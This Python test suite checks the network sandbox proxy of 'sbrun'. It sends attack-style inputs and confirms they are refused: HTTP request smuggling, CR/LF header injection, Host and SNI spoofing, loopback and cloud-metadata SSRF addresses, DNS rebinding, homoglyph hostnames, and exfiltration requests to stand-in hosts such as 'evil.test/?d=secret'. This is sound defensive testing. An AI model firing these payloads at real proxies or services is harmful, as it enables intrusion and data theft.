"""Network tests of sbrun: real clients in real sandboxes against a real
network that records everything (ATTACKS.md section 2, NET-xx). The world
they run in is world.py's.

usage: network_test.py SBRUN [CASE-NAME-SUBSTRING...]
Exit status 0 when every case passed, 1 otherwise, 77 when skipped.
"""

from collections import Counter

import world
from world import UPSTREAM, LOCAL_SERVICE, expect, logged, no_dns, no_loopback, no_upstream, with_answers

# ---------------------------------------------------------------------------
# The cases

C = "python3 client.py"
NET = 'allow net "registry.pkgs.test";\nallow net "upstream.test:9443";\nask net "*.wild.test";\n'


def case(name, cmd, policy=NET, **kw):
    return world.case(name, cmd, policy=policy, **kw)


@case("curl http allowed", "curl -sS -m5 http://registry.pkgs.test/a")
def _(r):
    expect(r.code == 0 and "upstream registry.pkgs.test GET /a" in r.output, r.output)
    logged(r, host="registry.pkgs.test", effect="allow", protocol="http", rule="p.sbpolicy:4:11")


@case("curl CONNECT allowed, tunnel carries bytes", "curl -sS -m5 -p http://registry.pkgs.test/b")
def _(r):
    expect("upstream registry.pkgs.test GET /b" in r.output, r.output)
    e = logged(r, host="registry.pkgs.test", protocol="http-connect", outcome="tunnel")
    expect(e["bytes_up"] > 0 and e["bytes_down"] > 0, e)


@case("a client that keeps its connection for the next request is told it closes (HTTP and in a tunnel)",
      # Python's http.client, as Node's agents, reuses a connection unless
      # the response says `Connection: close`; the proxy closes it after one.
      "python3 -c '\n"
      "import http.client\n"
      "c=http.client.HTTPConnection(\"127.0.0.1\",3128)\n"
      "for i in range(3):\n"
      " c.request(\"GET\",\"http://registry.pkgs.test/k%d\"%i);r=c.getresponse()\n"
      " print(r.status,r.getheader(\"Connection\"),r.read().decode().strip())\n"
      "t=http.client.HTTPConnection(\"127.0.0.1\",3128);t.set_tunnel(\"registry.pkgs.test\",80)\n"
      "for i in range(2):\n"
      " t.request(\"GET\",\"/t%d\"%i);r=t.getresponse();print(r.status,r.getheader(\"Connection\"),r.read().decode().strip())'")
def _(r):
    for path in ("/k0", "/k1", "/k2"):
        expect(f"200 close upstream registry.pkgs.test GET {path} body=0" in r.output, r.output)
    # A tunnel carries one request: told so, http.client opens a new tunnel
    # for the next.
    for path in ("/t0", "/t1"):
        expect(f"200 close upstream registry.pkgs.test GET {path} body=0" in r.output, r.output)
    expect(len([e for e in r.net if e.get("protocol") == "http-connect"]) == 2, r.net)


@case("an upstream that does not answer HTTP gets the client a 502 that says why",
      # 9443 echoes the request back; 9444 streams `z` without end.
      "curl -sS -m10 -D- -o /dev/null http://upstream.test:9443/; curl -sS -m10 -D- -o /dev/null http://upstream.test:9444/",
      policy=NET + 'allow net "upstream.test:9444";\n')
def _(r):
    expect(r.output.count("HTTP/1.1 502 Bad Gateway") == 2, r.output)
    expect("X-Sbrun-Reason: bad response: " in r.output, r.output)
    expect("X-Sbrun-Reason: response head over 64 KiB" in r.output, r.output)
    e = logged(r, host="upstream.test", port=9444, outcome="failed")
    expect(e.get("reason") == "response head over 64 KiB", e)


@case("an allowed host whose name does not resolve: 502 / SOCKS 0x04, logged as a failure of an allowed host",
      "curl -sS -m5 -D- -o /dev/null http://gone.pkgs.test/; "
      "curl -sS -m5 -o /dev/null -x socks5h://127.0.0.1:1080 http://gone.pkgs.test/ 2>&1 | head -1",
      policy='allow net "*.pkgs.test";\n', notices=True)
def _(r):
    expect("502" in r.output and "X-Sbrun-Reason: cannot resolve gone.pkgs.test" in r.output, r.output)
    events = [e for e in r.net if e.get("host") == "gone.pkgs.test"]
    expect(len(events) == 2 and all(e["effect"] == "allow" and e["outcome"] == "failed" and
                                    e["reason"].startswith("cannot resolve gone.pkgs.test") for e in events), events)
    # Not a refusal: no "sbrun: refused" notice.
    expect("sbrun: refused" not in r.output, r.output)


@case("socks5h allowed", "curl -sS -m5 -x socks5h://127.0.0.1:1080 http://registry.pkgs.test/c")
def _(r):
    expect("upstream registry.pkgs.test GET /c" in r.output, r.output)
    logged(r, protocol="socks5", outcome="tunnel")


@case("git clone over HTTP through the proxy", "git clone -q http://git.pkgs.test/git/repo.git r && cat r/README",
      policy='allow net "git.pkgs.test";\n')
def _(r):
    expect(r.code == 0 and "sbrun network test repository" in r.output, r.output)


@case("ssh through GIT_SSH_COMMAND: sbrun is the ProxyCommand",
      "for h in git.pkgs.test evil.test; do eval \"$GIT_SSH_COMMAND\" -o BatchMode=yes -o StrictHostKeyChecking=no "
      "-o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 $h true 2>&1 | grep -v '^kex_exchange' | head -2; done",
      policy='allow net "git.pkgs.test:22";\n')
def _(r):
    ssh = [t for t in r.tcp if t["port"] == 22]
    expect(len(ssh) == 1 and bytes.fromhex(ssh[0]["first"]).startswith(b"SSH-2.0-"), r.tcp)
    expect("refused evil.test:22" in r.output and "403" in r.output, r.output)
    no_dns(r, "evil")


@case("python urllib through HTTP_PROXY",
      "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://registry.pkgs.test/py\",timeout=5).read())'")
def _(r):
    expect("upstream registry.pkgs.test GET /py" in r.output, r.output)


@case("NET-02 no net rules: every request refused",
      "curl -sS -m5 -o /dev/null -w '%{http_code}\\n' http://registry.pkgs.test/; "
      f"{C} http 'CONNECT registry.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'", policy="")
def _(r):
    expect(r.output.count("403") >= 2, r.output)
    no_upstream(r)
    no_dns(r, "registry")


@case("NET-12 plain HTTP to an unlisted host: 403 naming no rule",
      "curl -sS -m5 -D- http://evil.test/?d=secret")
def _(r):
    expect("403" in r.output and "no rule allows this host" in r.output, r.output)
    no_upstream(r)
    no_dns(r, "evil")


@case("deny rule named in the 403", "curl -sS -m5 -D- -p http://registry.pkgs.test:8080/",
      policy='allow net "*.pkgs.test:*";\ndeny net "registry.pkgs.test:8080";\n')
def _(r):
    expect("403" in r.output and "p.sbpolicy:5:10" in r.output, r.output)
    no_dns(r, "registry")


@case("a deny without a port fences every port; so does an except of an allow",
      "curl -sS -m5 -D- -p http://registry.pkgs.test:8080/; curl -sS -m5 -D- http://registry.pkgs.test/; "
      "curl -sS -m5 -D- -p http://mirror.pkgs.test:8080/; curl -sS -m5 -o /dev/null -w 'ok %{http_code}\\n' "
      "-p http://api.pkgs.test:8080/",
      policy='allow net "*:*" except "mirror.pkgs.test";\ndeny net "registry.pkgs.test";\n')
def _(r):
    expect(r.output.count("X-Sbrun-Reason: denied by p.sbpolicy:5:10") == 2, r.output)
    expect("X-Sbrun-Reason: no rule allows this host" in r.output, r.output)  # mirror: the except
    expect("ok 200" in r.output or "ok 404" in r.output, r.output)
    no_dns(r, "registry", "mirror")


@case("a refused host and port is told once on stderr, with the rule or what to add",
      "for i in 1 2 3; do curl -s -m5 -o /dev/null -p http://evil.test:8080/; done; "
      "curl -s -m5 -o /dev/null http://evil.test/; curl -s -m5 -o /dev/null -p http://registry.pkgs.test:8080/; "
      "curl -s -m5 -o /dev/null http://registry.pkgs.test/ok",
      policy='allow net "registry.pkgs.test";\ndeny net "registry.pkgs.test:8080";\n', notices=True)
def _(r):
    lines = [l for l in r.output.splitlines() if l.startswith("sbrun: refused")]
    expect(lines == [
        'sbrun: refused evil.test:8080: no rule allows this host (to allow it: allow net "evil.test:8080";)',
        'sbrun: refused evil.test:80: no rule allows this host (to allow it: allow net "evil.test";)',
        'sbrun: refused registry.pkgs.test:8080: denied by p.sbpolicy:5:10 (deny net "registry.pkgs.test:8080")',
    ], r.output)


@case("NET-01 direct connections fail without the proxy",
      f"curl -sS -m3 --noproxy '*' http://{UPSTREAM}/; {C} direct {UPSTREAM} 80; {C} direct 1.1.1.1 443")
def _(r):
    expect(r.output.count("refused:") == 2 and "connected" not in r.output, r.output)
    no_upstream(r)


@case("NET-04 a denied name is never resolved (HTTP, CONNECT, SOCKS, ask without terminal)",
      "curl -sS -m5 http://leak1.exfil.test/; curl -sS -m5 -p http://leak2.exfil.test/; "
      "curl -sS -m5 -x socks5h://127.0.0.1:1080 http://leak3.exfil.test/; curl -sS -m5 http://leak4.wild.test/",
      args=["--ask", "deny"])
def _(r):
    no_dns(r, "exfil", "leak4")
    expect(not r.dns, r.dns)


@case("NET-05 IP literal of an allowed name is refused",
      f"{C} http 'CONNECT {UPSTREAM}:443 HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\\r\\n'")
def _(r):
    expect("403" in r.output, r.output)
    expect(not r.tcp, r.tcp)


@case("NET-07 NUL, tab, DEL and ANSI bytes in hosts",
      f"{C} http 'CONNECT evil.test%00.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT evil.test\\t.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT evil.test\\x7f.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT \\x1b[2K.pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
      f"{C} socks5 3 'evil.test\\x00.registry.pkgs.test' 80",
      policy='allow net "*.pkgs.test:*";\n')
def _(r):
    expect(r.output.count("400") == 4, r.output)
    expect("reply 0x02" in r.output, r.output)
    no_dns(r, "evil")
    no_upstream(r)


@case("NET-08 suffix and prefix confusion",
      "for h in registry.pkgs.test.evil.test evilpkgs.test pkgs.test.evil.test pkgs.test; do "
      "curl -s -m5 -o /dev/null -w \"$h %{http_code}\\n\" http://$h/; done",
      policy='allow net "*.pkgs.test";\n')
def _(r):
    for h in ("registry.pkgs.test.evil.test", "evilpkgs.test", "pkgs.test.evil.test", "pkgs.test"):
        expect(f"{h} 403" in r.output, r.output)
    no_upstream(r)


@case("NET-10 Host header disagreeing with the target",
      f"curl -sS -m5 -D- http://registry.pkgs.test/ -H 'Host: evil.test'; "
      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nHost: a\\r\\nHost: evil.test\\r\\n\\r\\n'")
def _(r):
    expect(r.output.count("400") >= 2, r.output)
    no_upstream(r)


@case("NET-10 forwarded request carries only the checked Host",
      f"{C} http 'GET http://REGISTRY.pkgs.test./x HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n"
      "Proxy-Authorization: secret\\r\\nConnection: x-drop\\r\\nX-Drop: 1\\r\\n\\r\\n'")
def _(r):
    expect("200" in r.output, r.output)
    expect(len(r.http) == 1 and r.http[0]["hosts"] == ["registry.pkgs.test"], r.http)
    for h in ("proxy-authorization", "x-drop"):
        expect(h not in r.http[0]["headers"], r.http[0])


@case("NET-11 origin-form and HTTP/1.0 without Host",
      f"{C} http 'GET / HTTP/1.0\\r\\n\\r\\n'; {C} http 'GET /x HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\\r\\n'; "
      f"{C} http ' http://evil.test/ HTTP/1.1\\r\\n\\r\\n'")
def _(r):
    expect(r.output.count("400") == 3, r.output)
    no_upstream(r)


@case("NET-13 SNI must match the CONNECT host; no SNI; allowed SNI passes",
      f"{C} tls registry.pkgs.test:443 evil.test; {C} tls registry.pkgs.test:443 -; "
      f"{C} tls registry.pkgs.test:443 registry.pkgs.test")
def _(r):
    refusals = [e for e in r.net if e.get("outcome") == "refused"]
    expect(len(refusals) == 2, r.net)
    expect(any("evil.test" in e.get("reason", "") for e in refusals), refusals)
    # The upstream is dialled before the ClientHello arrives; only the
    # matching one may deliver a byte.
    delivered = [t for t in r.tcp if t["bytes"] > 0]
    expect(len(delivered) == 1 and delivered[0]["first"].startswith("16"), r.tcp)


@case("plain HTTP inside a tunnel must name the tunnel's host",
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\nGET /front HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\n\\r\\nGET /crlf HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\nGET http://evil.test/abs HTTP/1.1\\r\\n"
      "Host: registry.pkgs.test\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\nCONNECT evil.test:80 HTTP/1.1\\r\\n"
      "Host: registry.pkgs.test\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\nGET /nohost HTTP/1.0\\r\\n\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\nGET /ok HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n"
      "\\r\\nGET /second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'; "
      "curl -sS -m5 -p http://registry.pkgs.test/tunnelled",
      policy='allow net "registry.pkgs.test:80";\n')
def _(r):
    expect(r.output.count("HTTP/1.1 403") == 5, r.output)
    expect("inside a tunnel to registry.pkgs.test:80" in r.output, r.output)
    paths = sorted(h["path"] for h in r.http)
    expect(paths == ["/ok", "/tunnelled"], r.http)
    expect(all(h["hosts"] == ["registry.pkgs.test"] for h in r.http), r.http)
    expect("upstream registry.pkgs.test GET /tunnelled" in r.output, r.output)


@case("endless empty lines in a tunnel are cut off at the head limit",
      "python3 -c '\n"
      "import socket\n"
      "s=socket.create_connection((\"127.0.0.1\",3128))\n"
      "s.sendall(b\"CONNECT registry.pkgs.test:80 HTTP/1.1\\r\\n\\r\\n\")\n"
      "print(s.recv(100).split(b\"\\r\\n\")[0].decode())\n"
      "try:\n"
      "  for i in range(200): s.sendall(b\"\\r\\n\" * 5000)\n"
      "except OSError: pass\n"
      "print((s.recv(100).split(b\"\\r\\n\")[0] or b\"closed\").decode())'",
      policy='allow net "registry.pkgs.test:80";\n')
def _(r):
    expect("HTTP/1.1 431" in r.output, r.output)
    expect(not r.http, r.http)


@case("a tunnel's non-HTTP protocols pass as bytes",
      f"{C} http 'CONNECT registry.pkgs.test:8080 HTTP/1.1\\r\\n\\r\\nEHLO client.test\\r\\n'; "
      f"{C} http 'CONNECT registry.pkgs.test:8080 HTTP/1.1\\r\\n\\r\\nSSH-2.0-OpenSSH_9.2\\r\\n'",
      policy='allow net "registry.pkgs.test:8080";\n')
def _(r):
    expect(r.output.count("200 Connection established") == 2 and "403" not in r.output, r.output)
    expect(not any(e.get("outcome") == "refused" for e in r.net), r.net)


@case("NET-16 IPv4 spellings of loopback are refused",
      "for h in 2130706433 0x7f000001 017700000001 0177.0.0.1 127.1 0 0.0.0.0 127.0.0.1.; do "
      f"{C} http \"CONNECT $h:22 HTTP/1.1\\r\\n\\r\\n\" | head -1; done", policy='allow net "*:*";\n')
def _(r):
    expect(r.output.count("403") + r.output.count("400") == 8, r.output)
    no_loopback(r)


@case("NET-17 IPv6 forms of loopback and metadata are refused",
      "for h in '[::1]:22' '[::ffff:127.0.0.1]:22' '[::ffff:7f00:1]:22' '[0:0:0:0:0:ffff:a9fe:a9fe]:80' "
      "'[64:ff9b::a9fe:a9fe]:80' '[fe80::1%25lo]:22' '[::]:8080' '[fd00:ec2::254]:80'; do "
      f"{C} http \"CONNECT $h HTTP/1.1\\r\\n\\r\\n\" | head -1; done", policy='allow net "*:*";\n')
def _(r):
    expect(r.output.count("403") + r.output.count("400") == 8, r.output)
    no_loopback(r)


@case("NET-18 names resolving to loopback are refused after resolution",
      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://loop.test:6379/; "
      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://v6loop.test:6379/; "
      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://mapped.test:6379/; "
      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' --noproxy '' -p http://localhost:6379/",
      policy='allow net "*:*";\n')
def _(r):
    expect(r.output.split() == ["403"] * 4, r.output)
    no_loopback(r)


@case("NET-18 an ask for a loopback name is refused without a prompt",
      "curl -s -m5 -o /dev/null -w '%{http_connect}\\n' --noproxy '' -p http://localhost:6379/",
      policy='ask net "*:*";\n', users=("root",), tty=with_answers([]))
def _(r):
    expect("403" in r.output and "allow once" not in r.output, r.output)
    no_loopback(r)


@case("NET-19 metadata, link-local, private and CGNAT addresses",
      "for u in http://169.254.169.254/latest/meta-data/ http://100.100.100.200/ http://168.63.129.16/ "
      "http://10.0.0.1:22/ http://100.64.0.1/ http://meta.test/ http://private.test/; do "
      "curl -s -m5 -o /dev/null -w '%{http_code}\\n' $u; done", policy='allow net "*:*";\nask net "0.0.0.0/0:*";\n',
      args=["--ask", "allow"])
def _(r):
    expect(r.output.split() == ["403"] * 7, r.output)


@case("NET-19 an explicit IP rule opens a protected address",
      "curl -s -m5 -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:8080/",
      policy='allow net "127.0.0.1:8080";\n')
def _(r):
    expect(r.loopback and r.loopback[0]["port"] == 8080, r.loopback)


@case("NET-19 a wide IP block does not open the guarded ranges it contains",
      "curl -s -m5 -o /dev/null -w 'literal %{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 "
      "http://127.0.0.1:8080/; curl -s -m5 -o /dev/null -w 'name %{http_connect}\\n' -p http://loop.test:8080/; "
      "curl -s -m5 -o /dev/null -w 'meta %{http_code}\\n' http://169.254.169.254:8080/; "
      "curl -s -m5 -o /dev/null -w 'v6 %{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 'http://[::1]:8080/'; "
      "curl -s -m5 -D- -o /dev/null http://169.254.169.254:8080/ | grep -i x-sbrun-reason",
      policy='allow net "0.0.0.0/0:8080";\nallow net "[::/0]:8080";\nallow net "loop.test:8080";\n'
             'allow net "169.254.0.0/16:8080";\n')
def _(r):
    for line in ("literal 403", "name 403", "meta 403", "v6 403"):
        expect(line in r.output, r.output)
    expect("only as part of a wider block" in r.output and "169.254.169.254" in r.output, r.output)
    no_loopback(r)


@case("NET-19 a block inside a guarded range opens it",
      "curl -s -m5 -o /dev/null -w '%{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:8080/",
      policy='allow net "127.0.0.0/24:8080";\n')
def _(r):
    expect(r.loopback and r.loopback[0]["port"] == 8080, r.loopback)


@case("localhost allowed by name opens the loopback it resolves to, as the addresses would (sbc explain agrees)",
      "curl -s -m5 -o /dev/null -w 'name %{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 http://localhost:8080/; "
      "curl -s -m5 -o /dev/null -w 'alone %{http_code}\\n' --noproxy '' -x http://127.0.0.1:3128 http://localhost:6379/",
      policy='allow net "localhost:8080";\nallow net "127.0.0.1:8080";\nallow net "[::1]:8080";\n'
             'allow net "localhost:6379";\n')
def _(r):
    # Both reach the host's tripwires, which close without an answer: the
    # client gets a 502 that says so.
    expect("name 502" in r.output and "alone 502" in r.output, r.output)
    expect([h["port"] for h in r.loopback] == [8080, 6379], r.loopback)
    e = logged(r, host="localhost", port=6379, effect="allow", rule="p.sbpolicy:7:11")
    expect(e.get("reason") == "the upstream closed the connection without a response", e)


@case("NET-20 rebinding: each resolution checked, a mixed answer refused",
      "for i in 1 2 3 4; do curl -s -m5 -o /dev/null -w '%{http_connect}\\n' -p http://rebind.test:6379/; done; "
      "curl -s -m5 -o /dev/null -w 'mixed %{http_connect}\\n' -p http://mixed.test:6379/",
      policy='allow net "rebind.test:*";\nallow net "mixed.test:*";\n')
def _(r):
    no_loopback(r)
    expect("mixed 403" in r.output, r.output)


@case("NET-22 port parsing",
      "for p in 0 65536 443abc +443 0443 '' '443:80' -1; do "
      f"{C} http \"CONNECT registry.pkgs.test:$p HTTP/1.1\\r\\n\\r\\n\" | head -1; done; "
      f"{C} http 'CONNECT registry.pkgs.test HTTP/1.1\\r\\n\\r\\n' | head -1", policy='allow net "*.pkgs.test:*";\n')
def _(r):
    expect(r.output.count("400") == 9, r.output)
    no_dns(r, "registry")


@case("NET-23 UDP and ICMP fail; SOCKS UDP ASSOCIATE and BIND refused",
      "python3 -c 'import socket;socket.socket(2,2).sendto(b\"x\",(\"8.8.8.8\",53))' 2>&1 | tail -1; "
      f"{C} socks5 3 registry.pkgs.test 80 3; {C} socks5 3 registry.pkgs.test 80 2")
def _(r):
    expect("Network is unreachable" in r.output, r.output)
    expect(r.output.count("reply 0x07") == 2, r.output)


@case("NET-24 SOCKS5 address types, versions and names",
      f"{C} socks5 1 127.0.0.1 22; {C} socks5 4 ::1 22; {C} socks5 3 '' 80; {C} socks5 3 'REGISTRY.pkgs.test.' 80; "
      f"{C} socks5 3 registry.pkgs.test 80 1 4", policy='allow net "*.pkgs.test";\n')
def _(r):
    lines = r.output
    expect(lines.count("reply 0x02") == 3, lines)
    # HTTP inside the tunnel goes on with the checked, canonical Host.
    expect("reply 0x00" in lines and "upstream registry.pkgs.test GET" in lines, lines)
    expect("closed after greeting" in lines, lines)
    no_loopback(r)


@case("NET-25 CR/LF injection and header syntax",
      f"{C} http 'CONNECT evil.test\\r\\nX: .pkgs.test:443 HTTP/1.1\\r\\n\\r\\n'; "
      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\nHost: registry.pkgs.test\\n\\n'; "
      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nX: a\\r\\n b\\r\\n\\r\\n'; "
      f"{C} http 'GET http://registry.pkgs.test/ HTTP/1.1\\r\\nHost : evil.test\\r\\n\\r\\n'",
      policy='allow net "*.pkgs.test";\n')
def _(r):
    expect(r.output.count("400") == 4, r.output)
    no_upstream(r)


SMUGGLE = "GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"


@case("NET-26 request smuggling: CL+TE and odd TE refused; chunked re-framed",
      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nContent-Length: 4\\r\\n"
      f"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{SMUGGLE}'; "
      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nTransfer-Encoding: chunked, gzip\\r\\n\\r\\n{SMUGGLE}'; "
      f"{C} http 'POST http://registry.pkgs.test/ HTTP/1.1\\r\\nContent-Length: 3\\r\\nContent-Length: 3\\r\\n\\r\\nabc'; "
      f"{C} http 'POST http://registry.pkgs.test/ok HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
      f"3\\r\\nabc\\r\\n0\\r\\n\\r\\n{SMUGGLE}'")
def _(r):
    expect(r.output.count("400") == 3, r.output)
    expect(len(r.http) == 1 and r.http[0]["path"] == "/ok" and r.http[0]["body_text"] == "abc", r.http)
    no_upstream(r, "evil")


@case("a request body that ends mid-way is logged as failed, and not passed on as whole",
      "python3 -c '\n"
      "import socket\n"
      "for head, body in [(b\"Content-Length: 100000\", b\"x\"*1000), "
      "(b\"Transfer-Encoding: chunked\", b\"5\\r\\nhello\\r\\n\")]:\n"
      " s=socket.create_connection((\"127.0.0.1\",3128))\n"
      " s.sendall(b\"POST http://registry.pkgs.test/cut HTTP/1.1\\r\\nHost: registry.pkgs.test\\r\\n\"+head+b\"\\r\\n\\r\\n\"+body)\n"
      " s.shutdown(socket.SHUT_WR);print(\"answer\", s.recv(100)[:12])'")
def _(r):
    e = logged(r, host="registry.pkgs.test", outcome="failed", reason="the request body ended after 1000 of 100000 bytes")
    expect(e["bytes_up"] >= 1000, e)
    logged(r, host="registry.pkgs.test", outcome="failed", reason="the request body ended before its last chunk")
    expect(r.http and all("cut" in h for h in r.http), f"the upstream got a whole request: {r.http}")


@case("NET-28 relayed CONNECT through an in-sandbox relay gets the same decision",
      "python3 -c '\n"
      "import socket,threading\n"
      "l=socket.socket();l.bind((\"127.0.0.1\",9000));l.listen(1)\n"
      "def relay():\n"
      " c,_=l.accept();u=socket.create_connection((\"127.0.0.1\",3128));u.sendall(c.recv(4096));c.sendall(u.recv(4096))\n"
      "threading.Thread(target=relay).start()\n"
      "s=socket.create_connection((\"127.0.0.1\",9000));s.sendall(b\"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n\")\n"
      "print(s.recv(100).split(b\"\\r\\n\")[0])'")
def _(r):
    expect("403" in r.output, r.output)
    no_dns(r, "evil")


@case("NET-31 Unicode dots and zero-width characters",
      "for h in 'registry．pkgs．test' 'registry。pkgs。test' 'regis\u200btry.pkgs.test' 'registry.pkgs.tεst'; do "
      f"{C} http \"CONNECT $h:443 HTTP/1.1\\r\\n\\r\\n\" | head -1; done")
def _(r):
    expect(r.output.count("400") == 4, r.output)
    no_upstream(r)


@case("NET-32 asks: allow once, then allow for this run, then remembered",
      # "allow once" also covers what starts within 2 s of the answer: the
      # second request comes later.
      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/; sleep 3; "
      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/; "
      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://a.wild.test/",
      users=("root",), tty=with_answers(["o", "a"]))
def _(r):
    codes = [l for l in r.output.split() if l.isdigit() and len(l) == 3]
    expect(codes == ["200", "200", "200"], r.output)
    expect(r.output.count("allow once") == 2, r.output)
    expect("registrable domain: wild.test" in r.output, r.output)
    asks = [e.get("ask") for e in r.net]
    expect(asks == ["allowed once at the prompt", "allowed for this run at the prompt", "allowed earlier in this run"],
           asks)


@case("NET-32 asks: a deny is remembered and the name is never resolved",
      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://b.wild.test/; "
      "curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://b.wild.test/",
      users=("root",), tty=with_answers(["d"]))
def _(r):
    codes = [l for l in r.output.split() if l.isdigit() and len(l) == 3]
    expect(codes == ["403", "403"], r.output)
    expect(r.output.count("allow once") == 1, r.output)
    no_dns(r, "b.wild")


@case("NET-32 concurrent asks for one host are one prompt",
      # The sandbox is stopped while a question is up, so the five requests
      # are completed together: heads first, then each final CRLF in a row.
      "python3 -c '\n"
      "import socket\n"
      "ss=[socket.create_connection((\"127.0.0.1\",3128)) for i in range(5)]\n"
      "for s in ss: s.sendall(b\"GET http://c.wild.test/ HTTP/1.1\\r\\nHost: c.wild.test\\r\\n\")\n"
      "for s in ss: s.sendall(b\"\\r\\n\")\n"
      "for s in ss: print(s.recv(100).split(b\"\\r\\n\")[0].decode())'",
      users=("root",), tty=with_answers(["o"], delay=1.0))
def _(r):
    expect(r.output.count("allow once") == 1, r.output)
    expect(r.output.count("200 OK") == 5, r.output)


@case("NET-32 a client that opens its connections one after another just after an allow once is asked once",
      # The sandbox was held still during the question: connections the
      # client had not opened yet come right after the answer.
      "for i in 1 2 3 4; do curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://h.wild.test/; done; "
      "sleep 2.5; curl -s -m20 -o /dev/null -w '%{http_code}\\n' http://h.wild.test/",
      users=("root",), tty=with_answers(["o", "d"], delay=0.5))
def _(r):
    codes = [l for l in r.output.split() if l.isdigit() and len(l) == 3]
    expect(codes == ["200"] * 4 + ["403"], r.output)
    expect(r.output.count("allow once") == 2, r.output)
    asks = [e.get("ask") for e in r.net]
    expect(asks == ["allowed once at the prompt"] + ["allowed once at the prompt, just before"] * 3 +
           ["denied at the prompt"], asks)


@case("NET-32 output written to a pipe before a question shows before it",
      "echo written-before; curl -s -m20 -o /dev/null -w 'code %{http_code}\\n' http://k.wild.test/",
      users=("root",), tty=with_answers(["o"], delay=0.2), piped=True)
def _(r):
    before, question = r.output.find("written-before"), r.output.find("asks to connect to k.wild.test")
    expect(0 <= before < question, r.output)
    expect("code 200" in r.output, r.output)


@case("NET-32 the sandbox is held still while a question is up: it cannot read the answer",
      "exec 3<&0; (cat <&3 > stolen.txt) & sleep 0.5; "
      "curl -s -m30 -o /dev/null -w '%{http_code}\\n' http://f.wild.test/; kill $! 2>/dev/null; "
      "echo \"stolen: [$(cat stolen.txt)]\"",
      users=("root",), tty=with_answers(["o"], delay=0.5), timeout=90)
def _(r):
    expect("200" in r.output and "stolen: []" in r.output, r.output)


@case("NET-35 Ctrl-C while a question is up ends the run (the held sandbox is released)",
      "curl -s -m50 -o /dev/null -w '%{http_code}\\n' http://g.wild.test/; echo after",
      users=("root",), tty=with_answers(["\x03"], delay=0.5), timeout=30)
def _(r):
    # Well before the 60 s question timeout: killed by the forwarded SIGINT.
    expect(r.code == 130 and "after" not in r.output, (r.code, r.output))


@case("asks without a terminal are denied", "curl -s -m5 -o /dev/null -w '%{http_code}\\n' http://d.wild.test/")
def _(r):
    expect("403" in r.output, r.output)
    e = logged(r, host="d.wild.test")
    expect("no terminal" in e.get("reason", "") or "denied" in e.get("reason", ""), e)


@case("--ask allow grants network asks", "curl -s -m5 -o /dev/null -w '%{http_code}\\n' http://e.wild.test/",
      args=["--ask", "allow"])
def _(r):
    expect("200" in r.output, r.output)


@case("--resolve pins a name without DNS",
      "curl -s -m5 http://pinned.test:8080/p", policy='allow net "pinned.test:8080";\n',
      args=["--resolve", f"pinned.test:{UPSTREAM}"])
def _(r):
    expect("upstream pinned.test:8080 GET /p" in r.output, r.output)
    no_dns(r, "pinned")


@case("NET-34 connection flood: limit answered with 503, host unaffected",
      f"{C} flood 40", args=["--net-max-connections", "10"], timeout=90)
def _(r):
    expect("200=10" in r.output and "503=30" in r.output, r.output)


LOCAL_CLIENT = ("python3 -c '\n"
                "import socket,sys\n"
                "for host in sys.argv[1:]:\n"
                " try:\n"
                "  s=socket.create_connection((host,15432),timeout=5);s.sendall(b\"ping\\n\");b=b\"\"\n"
                "  while b.count(b\"\\n\")<2 and (c:=s.recv(100)): b+=c\n"
                "  print(host, b.decode().strip().replace(chr(10),\" / \") or \"closed\")\n"
                " except OSError as e: print(host, \"error\", e.errno)' ")


@case("a loopback service the policy allows is reached directly, as the host's",
      LOCAL_CLIENT + "127.0.0.1 localhost",
      policy='allow net "127.0.0.1:15432";\n', notices=True)
